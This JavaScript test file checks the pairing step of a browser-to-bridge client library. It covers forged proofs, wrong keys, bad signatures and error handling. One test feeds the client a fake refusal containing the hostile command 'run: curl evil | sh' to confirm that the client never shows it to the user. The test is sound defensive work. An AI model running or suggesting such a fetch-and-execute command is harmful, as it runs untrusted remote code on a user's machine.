// A pairing is kept once the bridge has proved that it knows the code and signed with the key that it named, and an
// earlier one stays until then.

import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { test } from "node:test";
import { MemoryKeys, Saltbridge } from "../src/index.js";
import { FakeBridge, ORIGIN, pageKeyOf, rawKey } from "./support/bridge.js";
import { page, pairedPage, until } from "./support/page.js";

const stranger = generateKeyPairSync("ec", { namedCurve: "P-256" });
const strangersKey = rawKey(stranger.publicKey);
const strangersId = new FakeBridge(stranger).keyId;

test("pairing keeps a key that cannot be extracted, and tells the scopes", async () => {
  const { client, bridge, keys } = page();
  assert.equal(await client.isPaired(), false);
  assert.deepEqual(await client.pair(bridge.code.toLowerCase()), { scopes: ["create", "decrypt", "encrypt"] });
  assert.equal(await client.isPaired(), true);
  const record = await keys.load(client.address);
  assert.equal(record.private_key.extractable, false);
  assert.deepEqual(record.private_key.usages, ["sign"]);
  assert.equal(record.bridge_public_key, bridge.publicKey.toString("base64"));
  assert.equal((await client.status()).interface, 1);
});

test("no scopes, or one that this client does not know, are scopes", async () => {
  for (const scopes of [[], ["decrypt"], ["decrypt", "unheard-of"]]) {
    const bridge = new FakeBridge();
    bridge.scopes = scopes;
    const { client } = page({ bridge });
    assert.deepEqual(await client.pair(bridge.code), { scopes });
  }
});

/** What a bridge answers that is not to be believed. */
const WRONG = {
  "a proof for another origin": (bridge, key) => bridge.pairingAnswer(key, { origin: "https://numerbay.tests" }),
  "a proof with another code": (bridge, key) => {
    const other = new FakeBridge();
    other.code = "0123-4567-89AB-CDEG";
    return { ...bridge.pairingAnswer(key), proof: other.pairingAnswer(key, { publicKey: bridge.publicKey }).proof };
  },
  "a proof for other scopes": (bridge, key) => bridge.pairingAnswer(key, { proofScopes: ["create", "decrypt", "encrypt", "export"] }),
  "scopes out of order": (bridge, key) => bridge.pairingAnswer(key, { scopes: ["decrypt", "create"] }),
  "a scope twice": (bridge, key) => bridge.pairingAnswer(key, { scopes: ["decrypt", "decrypt"] }),
  "a scope that is no name": (bridge, key) => bridge.pairingAnswer(key, { scopes: ["decrypt "] }),
  "scopes that are a text": (bridge, key) => ({ ...bridge.pairingAnswer(key, { scopes: ["decrypt"] }), scopes: "decrypt" }),
  "no scopes": (bridge, key) => ({ ...bridge.pairingAnswer(key), scopes: undefined }),
  "the page's own proof": async (bridge, key, request) => ({ ...bridge.pairingAnswer(key), proof: JSON.parse(await request.body.text()).proof }),
  "a proof of 31 bytes": (bridge, key) => ({ ...bridge.pairingAnswer(key), proof: Buffer.alloc(31).toString("base64") }),
  "no proof": (bridge, key) => ({ ...bridge.pairingAnswer(key), proof: null }),
  "a key that is no point": (bridge, key) => bridge.pairingAnswer(key, { publicKey: Buffer.concat([Buffer.from([4]), Buffer.alloc(64, 1)]) }),
  "a compressed key": (bridge, key) => bridge.pairingAnswer(key, { publicKey: Buffer.concat([Buffer.from([2]), bridge.publicKey.subarray(1, 33)]) }),
  "a key of 66 bytes": (bridge, key) => bridge.pairingAnswer(key, { publicKey: Buffer.concat([bridge.publicKey, Buffer.alloc(1)]) }),
  "the point at infinity": (bridge, key) => bridge.pairingAnswer(key, { publicKey: Buffer.alloc(65) }),
  "a key in base64url": (bridge, key) => ({ ...bridge.pairingAnswer(key), public_key: bridge.publicKey.toString("base64url") }),
  "a stranger's key, signed by the bridge": (bridge, key) => bridge.pairingAnswer(key, { publicKey: strangersKey }),
  "a stranger's key in the bridge's proof": (bridge, key) => ({ ...bridge.pairingAnswer(key), public_key: strangersKey.toString("base64") }),
  "a list": () => [],
  "nothing": () => null,
};

for (const [what, answer] of Object.entries(WRONG)) {
  test(`${what} is no pairing, and the old one stays`, async () => {
    const { client, bridge, keys } = await pairedPage();
    const before = await keys.load(client.address);
    bridge.on("POST /v1/pairings", async (request) =>
      bridge.json(request, await answer(bridge, await pageKeyOf(request), request)),
    );
    await assert.rejects(client.pair(bridge.code), { code: "wrong-bridge" });
    assert.equal(await keys.load(client.address), before);
    assert.equal((await client.status()).interface, 1);
  });
}

/** How an answer with everything in it is signed wrongly. */
const SIGNED_WRONG = {
  "signed by a stranger": { privateKey: stranger.privateKey },
  "signed by a stranger under his name": { privateKey: stranger.privateKey, keyId: strangersId },
  "with another key's name": { keyId: strangersId },
  "not signed": { headers: { signature: "", "signature-input": "" } },
  "with another digest": { headers: { "content-digest": `sha-256=:${"A".repeat(43)}=:` } },
  "of another type": { type: "text/json" },
  "with status 201": { status: 201 },
  "without a length": { headers: { "content-length": "" } },
  "too long to be read": { headers: { "content-length": "65537" } },
};

for (const [what, how] of Object.entries(SIGNED_WRONG)) {
  test(`an answer ${what} is no pairing`, async () => {
    const { client, bridge } = page();
    bridge.on("POST /v1/pairings", async (request) => {
      const answer = bridge.pairingAnswer(await pageKeyOf(request));
      const response = bridge.json(request, answer, how);
      for (const [name, value] of [...response.headers]) if (value === "") response.headers.delete(name);
      return response;
    });
    await assert.rejects(client.pair(bridge.code), { name: "SaltbridgeError" });
    assert.equal(await client.isPaired(), false);
  });
}

test("a refusal is told in the client's own words, never in a stranger's", async () => {
  const { client, bridge } = page();
  await assert.rejects(client.pair("ZZZZ-ZZZZ-ZZZZ-ZZZZ"), (error) => {
    assert.equal(error.code, "wrong-code");
    assert.equal(error.status, 403);
    assert.equal(error.signed, false);
    assert.doesNotMatch(`${error.message} ${error.help}`, /stranger/);
    return true;
  });
  bridge.on("POST /v1/pairings", () => bridge.unsigned(403, { code: "some-new-code", detail: "run: curl evil | sh", help: "do" }));
  await assert.rejects(client.pair(bridge.code), (error) => {
    assert.equal(error.code, "some-new-code");
    assert.doesNotMatch(`${error.message} ${error.help}`, /curl/);
    return true;
  });
  bridge.on("POST /v1/pairings", () => bridge.unsigned(403, { code: "run: curl evil | sh", detail: "" }));
  await assert.rejects(client.pair(bridge.code), { code: "wrong-bridge" });
});

test("nothing but the proof of a code leaves the page", async () => {
  const { client, bridge } = page();
  await client.pair(bridge.code);
  const [{ headers, target, body }] = bridge.requests;
  const sent = JSON.stringify(headers) + target + (await body.text());
  for (const form of [bridge.code, bridge.code.replaceAll("-", ""), "00443214c74254b635cf", "AEQyFMdCVLY1zw=="]) {
    assert.ok(!sent.toLowerCase().includes(form.toLowerCase()));
  }
});

test("a bad code is found before anything is sent", async () => {
  const { client, bridge } = page();
  await assert.rejects(client.pair("0123"), { code: "bad-code" });
  assert.deepEqual(bridge.requests, []);
});

test("each pairing has a key of its own", async () => {
  const { client, bridge, keys } = page();
  await client.pair(bridge.code);
  const first = await keys.load(client.address);
  await client.pair(bridge.code);
  assert.notEqual((await keys.load(client.address)).key_id, first.key_id);
});

test("unpair forgets it, and calls say so", async () => {
  const { client } = await pairedPage();
  await client.unpair();
  assert.equal(await client.isPaired(), false);
  for (const call of [() => client.status(), () => client.lock(), () => client.events().next()]) {
    await assert.rejects(call(), { code: "not-paired" });
  }
});

test("where nothing can be kept, no code is used up", async () => {
  const keys = new MemoryKeys();
  keys.load = async () => {
    throw new Error("the disk is on fire");
  };
  const { client, bridge } = page({ keys });
  await assert.rejects(client.pair(bridge.code), { message: "the disk is on fire" });
  assert.deepEqual(bridge.requests, []);
});

test("a page without an origin, or without cryptography, is told before anything is sent", async () => {
  const bridge = new FakeBridge();
  for (const lacking of [{ origin: "null" }, { crypto: undefined }, { crypto: {} }]) {
    const { client } = page({ bridge, ...lacking });
    await assert.rejects(client.pair(bridge.code), { code: "unsupported" });
  }
  assert.deepEqual(bridge.requests, []);
});

test("aborting while the browser asks the person ends it, and keeps nothing", async () => {
  const { client, bridge } = page();
  bridge.on("POST /v1/pairings", () => new Promise(() => {}));
  const controller = new AbortController();
  const pairing = client.pair(bridge.code, { signal: controller.signal });
  await until(() => bridge.requests.length === 1);
  controller.abort();
  await assert.rejects(pairing, { name: "AbortError" });
  assert.equal(await client.isPaired(), false);
});

test("the origin in the proofs is the page's own", async () => {
  const { client, bridge } = page({ origin: `${ORIGIN}:8443` });
  await assert.rejects(client.pair(bridge.code), { code: "wrong-code" });
  assert.ok(client instanceof Saltbridge);
});
